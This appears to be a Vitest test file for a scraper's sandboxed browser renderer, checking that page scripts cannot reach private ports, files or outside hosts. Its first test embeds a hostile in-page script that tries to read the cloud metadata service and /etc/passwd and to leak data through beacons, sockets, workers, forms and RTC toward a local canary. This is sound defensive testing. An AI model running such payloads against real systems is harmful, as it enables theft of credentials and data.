import { Buffer } from 'node:buffer'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { describe, expect, test } from 'vitest'
import { launchBrowser } from '../../server/scrape/render/browser.ts'
import { createRenderer } from '../../server/scrape/render/renderer.ts'
import { shopAt, testScraper } from '../scrape/shops/run.ts'
import { notFound, send, serve } from '../scrape/shops/server.ts'
import { browserMissing } from '../support/browser.ts'
import { silentLog } from '../support/log.ts'
import { program, render, shell, signal } from './rendering.ts'

describe.skipIf(browserMissing !== null)('what the scripts of a page reach', () => {
  test('nothing gets out past the rules: no private port, metadata service, file, socket, frame, worker, beacon, window or UDP', async () => {
    await using canary = await serve((_, response) => send(response, 200, 'secret', { 'access-control-allow-origin': '*' }))
    const udp = createSocket('udp4').bind(0, '127.0.0.1')
    await once(udp, 'listening')
    let datagrams = 0
    udp.on('message', () => datagrams++)
    const attack = `(async () => {
      const told = []
      const tell = (name, work) => work.then(() => told.push(name + ' got through'), () => told.push(name))
      const canary = '${canary.origin}'
      const socket = new WebSocket(canary.replace('http', 'ws') + '/socket')
      navigator.sendBeacon(canary + '/beacon', 'x')
      for (const [tag, address] of [['iframe', '/frame'], ['img', '/image'], ['script', '/script']])
        document.body.append(Object.assign(document.createElement(tag), { src: canary + address }))
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'file:///etc/passwd' }))
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest'])
        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: canary + '/' + rel }))
      const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + canary + "/worker').catch(() => {}); try { new WebSocket('" + canary.replace('http', 'ws') + "/worker-socket') } catch {}; try { new EventSource('" + canary + "/events') } catch {}"])))
      open(canary + '/window')
      const rtc = typeof RTCPeerConnection === 'undefined' ? 'no rtc' : 'rtc'
      const form = document.createElement('form')
      form.action = canary + '/form'
      form.method = 'post'
      form.target = 'other'
      document.body.append(form)
      form.submit()
      await tell('metadata', fetch('http://169.254.169.254/latest/meta-data/', { mode: 'no-cors' }))
      await tell('port', fetch(canary + '/fetch', { mode: 'no-cors' }))
      await tell('own', fetch('/ok'))
      await tell('redirect', fetch('/away'))
      await tell('post', fetch(canary + '/post', { method: 'POST', mode: 'no-cors', body: 'x' }))
      await tell('file', fetch('file:///etc/passwd'))
      await tell('rtc', new Promise((resolve, reject) => {
        if (rtc === 'no rtc')
          return reject()
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] })
        peer.createDataChannel('x')
        peer.createOffer().then(offer => peer.setLocalDescription(offer)).then(() => setTimeout(resolve, 500))
      }))
      document.getElementById('root').textContent = told.join(', ')
      await new Promise(resolve => setTimeout(resolve, 300))
      await fetch('/end')
      location.href = canary + '/leave'
    })()`
    const seen: string[] = []
    await using server = await serve(({ path }, response) => {
      seen.push(path)
      if (path === '/away')
        return send(response, 302, '', { location: `${canary.origin}/redirected` })
      return path === '/p' ? send(response, 200, shell(attack)) : path === '/ok' || path === '/end' ? send(response, 200, 'fine') : notFound(response)
    })
    await using scraper = testScraper(server, { renderer: program })
    await using run = scraper.open(shopAt(server.origin))
    const { html: _, ...reading } = await run.read(`${server.origin}/p`, { memory: null, signal: signal() })
    expect(reading).toMatchObject({ outcome: 'failed', failure: { code: 'needs-javascript' } })
    expect(seen, 'the page\'s script ran to its end').toEqual(expect.arrayContaining(['/ok', '/away', '/end']))
    expect(canary.visits).toEqual([])
    expect(canary.connections()).toBe(0)
    expect(datagrams).toBe(0)
    udp.close()
  })

  test('without a route the browser itself reaches nothing, this machine included', async () => {
    await using canary = await serve((_, response) => send(response, 200, 'secret'))
    await using browser = await launchBrowser(program, 20_000)
    const page = await browser.newPage()
    for (const address of [canary.origin, canary.origin.replace('127.0.0.1', 'localhost'), 'http://[::1]/'])
      await expect(page.goto(address)).rejects.toThrow(/ERR_PROXY_CONNECTION_FAILED|ERR_NAME_NOT_RESOLVED/)
    expect(canary.connections()).toBe(0)
  })

  test('a page whose scripts go on to another address of the shop is read there; no picture, beacon or post is asked for', async () => {
    await using renderer = createRenderer({ program, userAgent: 'Gleaner/1.0', log: silentLog })
    const asked: string[] = []
    const rendered = await render(renderer, 'new Image().src = "/a.png"; navigator.sendBeacon("/b"); fetch("/c", { method: "POST" }).catch(() => {}); location.replace("/next")', async (url) => {
      asked.push(url)
      return { headers: { 'content-type': 'text/html' }, body: Buffer.from('<p>here</p>') }
    })
    expect(rendered).toMatchObject({ url: 'http://shop.example/next', html: expect.stringContaining('here') as string })
    expect(asked).toEqual(['http://shop.example/next'])
  })
})
